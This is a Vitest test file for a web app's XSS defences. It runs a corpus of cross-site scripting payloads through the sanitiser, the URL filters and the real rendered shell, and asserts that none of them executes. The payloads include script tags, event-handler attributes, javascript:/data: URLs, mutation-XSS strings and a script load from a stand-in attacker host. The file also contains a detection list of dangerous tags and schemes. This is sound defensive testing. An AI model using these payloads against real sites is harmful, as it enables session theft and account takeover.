/**
 * XSS corpus (issue 10): payloads in every place that renders server HTML or text, through the
 * real components in jsdom. After each: no payload ran (a global flag never set), no on*
 * attributes, no javascript:/vbscript:/data:text/html URLs, no scripts, frames or objects in the
 * DOM, and web links that open a new tab carry rel=noopener.
 *
 * - Server HTML: SafeHtml itself, and the info page popup (pages) opened from the side menu.
 * - Brand texts and URLs in settings: brand name, logos, tab and menu titles, home buttons and
 *   social links, the platform link, module titles and texts, the wallet link.
 * - Answers: user names, branch names, addresses and phones (contacts page), info page titles,
 *   a push message's title and body (alert dialog).
 */
import { act, render, screen, within } from '@testing-library/react'
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
import { registry } from '../../registry/index.ts'
import { guestAppData } from '../../server/seed/helpers.ts'
import { coffee } from '../../server/seed/coffee.ts'
import { pizzeriaMsk } from '../../server/seed/pizzeria.ts'
import { mediaUrl } from '../../src/core/brand/brand.ts'
import { navigate } from '../../src/core/state/ui.ts'
import { walletLink } from '../../src/modules/getwallet/link.ts'
import { safeImageUrl, safeWebUrl } from '../../src/core/format/safe-url.ts'
import type { AppDataInput } from '../../src/core/state/types.ts'
import { SafeHtml } from '../../src/ui/html/safe-html.tsx'
import { sanitizeHtml } from '../../src/ui/html/sanitize.ts'
import { flush, renderApp, type RenderAppOptions } from '../helpers/render-app.tsx'

/** renderApp, with time for the first import of every module on a busy machine. */
async function renderBrand(data: AppDataInput, opts: RenderAppOptions) {
  const result = await renderApp(data, { ...opts, waitForModules: false })
  await vi.waitFor(
    () => {
      if (!registry.ready) throw new Error('modules not loaded yet')
    },
    { timeout: 30_000 },
  )
  await flush()
  return result
}

type Flagged = typeof globalThis & { __xss?: unknown }
const RUN = 'globalThis.__xss=1'

/** HTML and text payloads: each one sets globalThis.__xss if it ever runs. */
export const htmlPayloads = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src=x onerror="${RUN}">`,
  `<IMG SRC=x OnErRoR=${RUN}>`,
  `<img src="x" onerror=&#x67;lobalThis.__xss=1>`,
  `<svg onload="${RUN}"><circle r=1 /></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="data:text/html,<script>${RUN}</script>">`,
  `<a href="javascript:${RUN}">click</a>`,
  `<a href="JaVaScRiPt:${RUN}">mixed case</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}">entities</a>`,
  `<a href="jav&#x09;ascript:${RUN}">tab</a>`,
  `<a href=" &#14; javascript:${RUN}">leading junk</a>`,
  `<a href="vbscript:msgbox(1)">vb</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>`,
  `<a href="https://example.org" target="_blank">new tab</a>`,
  `<a href="https://example.org" target="_blank" rel="opener">opener</a>`,
  `<form action="javascript:${RUN}"><button>go</button></form>`,
  `<button formaction="javascript:${RUN}">go</button>`,
  `<input autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<video><source onerror="${RUN}"></video>`,
  `<body onload="${RUN}">`,
  `<div style="background:url(javascript:${RUN})">style</div>`,
  `<style>@import 'javascript:${RUN}';</style>`,
  `<link rel="stylesheet" href="javascript:${RUN}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<base href="javascript:${RUN}//">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `"><img src=x onerror=${RUN}>`,
  `'><svg onload=${RUN}>`,
  `</textarea><script>${RUN}</script>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\u0000<img src=x onerror=${RUN}>`,
]

/** URL payloads for links, images and navigation from settings and answers. */
export const urlPayloads = [
  `javascript:${RUN}`,
  `JAVASCRIPT:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload="${RUN}"/>`,
]

const DANGEROUS_TAGS = 'script, iframe, frame, frameset, object, embed, applet, base, meta, link'
const URL_ATTRS = ['href', 'src', 'action', 'formaction', 'xlink:href', 'poster', 'data', 'srcset']

function dangerousUrl(value: string): boolean {
  // eslint-disable-next-line no-control-regex -- the control characters are what it strips
  const bare = value.replace(/[\u0000-\u0020\u007f-\u009f]/g, '').toLowerCase()
  return (
    bare.startsWith('javascript:') ||
    bare.startsWith('vbscript:') ||
    bare.startsWith('data:text/html') ||
    bare.startsWith('data:image/svg')
  )
}

/** Everything that must never be in the DOM after rendering server content. */
function expectNoXss(root: ParentNode = document.body) {
  expect((globalThis as Flagged).__xss).toBeUndefined()
  expect(root.querySelectorAll(DANGEROUS_TAGS)).toHaveLength(0)
  for (const el of root.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      expect(attr.name.toLowerCase().startsWith('on'), `${el.tagName} ${attr.name}`).toBe(false)
      if (URL_ATTRS.includes(attr.name.toLowerCase())) {
        expect(dangerousUrl(attr.value), `${el.tagName} ${attr.name}="${attr.value}"`).toBe(false)
      }
    }
    if (el.tagName === 'A' && el.getAttribute('target') === '_blank') {
      expect(el.getAttribute('rel') ?? '', `rel of ${el.outerHTML}`).toContain('noopener')
    }
  }
}

beforeEach(() => {
  delete (globalThis as Flagged).__xss
})
afterEach(() => {
  expect((globalThis as Flagged).__xss).toBeUndefined()
})

describe('server HTML through SafeHtml', () => {
  it.each(htmlPayloads)('%s', (payload) => {
    const { container } = render(<SafeHtml html={`<p>до</p>${payload}<p>после</p>`} />)
    expectNoXss(container)
    // (An unclosed payload may swallow what follows it: only what precedes is certain.)
    expect(container).toHaveTextContent('до')
  })

  it('the whole corpus at once, twice sanitised (idempotent), keeps the text', () => {
    const html = htmlPayloads.join('<p>—</p>')
    const once = sanitizeHtml(html)
    expect(sanitizeHtml(once)).toBe(once)
    const { container } = render(<SafeHtml html={html} />)
    expectNoXss(container)
  })
})

describe('URLs from settings and answers', () => {
  it.each(urlPayloads)('%s is never a link, image or navigation target', (url) => {
    expect(safeWebUrl(url)).toBeNull()
    expect(safeImageUrl(url)).toBeNull()
  })

  it.each(urlPayloads)('%s never opens as the wallet pass', (url) => {
    expect(walletLink({ url, ios: url, android: url }, 'iPhone')).toBe('')
    expect(walletLink({ url }, 'Android')).toBe('')
  })

  it.each(urlPayloads)('%s is never a logo or image source', (url) => {
    expect(mediaUrl(url, { apiBase: 'http://x.localhost/rest/mobile/v53/', apiQuery: {} })).toBe(
      null,
    )
  })

  it('web addresses and inline raster images pass', () => {
    expect(safeWebUrl(' https://example.org/a ')).toBe('https://example.org/a')
    expect(safeWebUrl('/rest/image/1.png')).toBe('/rest/image/1.png')
    expect(safeImageUrl('data:image/png;base64,iVBORw0KGgo=')).toBe(
      'data:image/png;base64,iVBORw0KGgo=',
    )
  })
})

/** Replaces texts and URLs anywhere in settings by payloads, in turn. */
function poison(value: unknown, key = '', counter = { n: 0 }): unknown {
  if (Array.isArray(value)) return value.map((v) => poison(v, key, counter))
  if (value && typeof value === 'object') {
    return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, poison(v, k, counter)]))
  }
  if (typeof value !== 'string') return value
  if (/(^|[a-z])(link|url|logo|applink|image|icon|ios|android)$/i.test(key) || key === 'value') {
    return urlPayloads[counter.n++ % urlPayloads.length]
  }
  if (/title|text|name|label|message|description|caption|currency/i.test(key)) {
    return `${value} ${htmlPayloads[counter.n++ % htmlPayloads.length]}`
  }
  return value
}

function poisonedBrand(brand: typeof pizzeriaMsk): AppDataInput {
  const data = guestAppData(brand) as unknown as AppDataInput
  const settings = poison(data.settings) as AppDataInput['settings']
  settings.gmbLink = `javascript:${RUN}`
  settings.logo = `javascript:${RUN}`
  settings.smallLogo = `data:text/html,<script>${RUN}</script>`
  return {
    ...data,
    settings,
    user: {
      idUser: null,
      idDevice: 1,
      fName: htmlPayloads[2]!,
      lName: htmlPayloads[5]!,
      display_name: htmlPayloads[0]!,
    },
    branches: (data.branches ?? []).map((b, i) => ({
      ...b,
      name: `${b.name} ${htmlPayloads[i % htmlPayloads.length]}`,
      address: htmlPayloads[(i + 3) % htmlPayloads.length]!,
      description: htmlPayloads[(i + 7) % htmlPayloads.length]!,
      contactPhone: `javascript:${RUN}`,
    })),
  }
}

const pagesAnswer = {
  status: 'ok',
  pages: [
    {
      idContent: 1,
      title: `О нас ${htmlPayloads[2]}`,
      content: `<p>Страница</p>${htmlPayloads.join('<p>—</p>')}`,
    },
    { idContent: 2, title: `<a href="javascript:${RUN}">Ссылка</a>`, content: htmlPayloads[14] },
  ],
}

describe('brand texts, answers and dialogs in the real shell', () => {
  it.each([
    ['pizzeria-msk', pizzeriaMsk],
    ['coffee', coffee],
  ])(
    '%s with every text and URL poisoned',
    async (_, brand) => {
      const { user } = await renderBrand(poisonedBrand(brand), {
        locale: 'ru',
        network: { pages: pagesAnswer },
      })
      expectNoXss()
      // The side menu: titles, the platform link, info pages (their titles come from the server).
      await user.click(await screen.findByRole('button', { name: 'Меню' }))
      const panel = await screen.findByRole('dialog', { name: 'Меню' })
      expectNoXss()
      const page = await within(panel).findByText(/О нас/)
      await user.click(page)
      // The page popup renders the server HTML (its links' texts stay, their scripts do not).
      await screen.findByText('Страница')
      expectNoXss()
      // The contacts page: branch names, addresses, descriptions and phones.
      await act(async () => navigate('/home/contacts'))
      await flush()
      expectNoXss()
    },
    60_000,
  )

  it('a push message with HTML in its title and body', async () => {
    const message = JSON.stringify({
      title: htmlPayloads[2],
      body: `${htmlPayloads[0]} ${htmlPayloads[13]}`,
    })
    await renderBrand(poisonedBrand(pizzeriaMsk), {
      locale: 'ru',
      url: `http://localhost:3000/?push=${encodeURIComponent(message)}`,
    })
    const dialog = await screen.findByRole('alertdialog')
    expect(dialog).toHaveTextContent('<img src=x onerror=')
    expectNoXss()
  }, 60_000)
})
